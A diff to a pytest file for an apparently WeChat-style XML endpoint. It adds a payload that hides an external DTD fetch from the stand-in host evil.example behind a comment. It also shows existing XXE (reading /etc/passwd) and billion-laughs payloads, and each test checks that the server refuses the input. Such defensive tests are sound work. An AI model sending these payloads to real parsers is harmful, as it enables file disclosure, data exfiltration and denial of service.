@@ -89,9 +89,14 @@ XXE = b"""<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/p
 LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><xml><FromUserName>o1</FromUserName><MsgType>text</MsgType>
 <Content>&lol3;</Content></xml>"""
+# A comment may stand before the DTD and hold what looks like the root element's start; the DTD
+# names an external file (which a parser that loads DTDs would fetch).
+HIDDEN = b"""<!-- <xml> --><!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml><ToUserName>gh</ToUserName>
+<FromUserName>o1</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>hi</Content>
+<MsgId>1</MsgId></xml>"""
 
 
-@pytest.mark.parametrize("body", [XXE, LAUGHS], ids=["external-entity", "billion-laughs"])
+@pytest.mark.parametrize("body", [XXE, LAUGHS, HIDDEN], ids=["external-entity", "billion-laughs", "after-a-comment"])
 def test_entity_tricks_are_refused(app, body):
     response = _post(app, body)
     assert response.status_code == 400
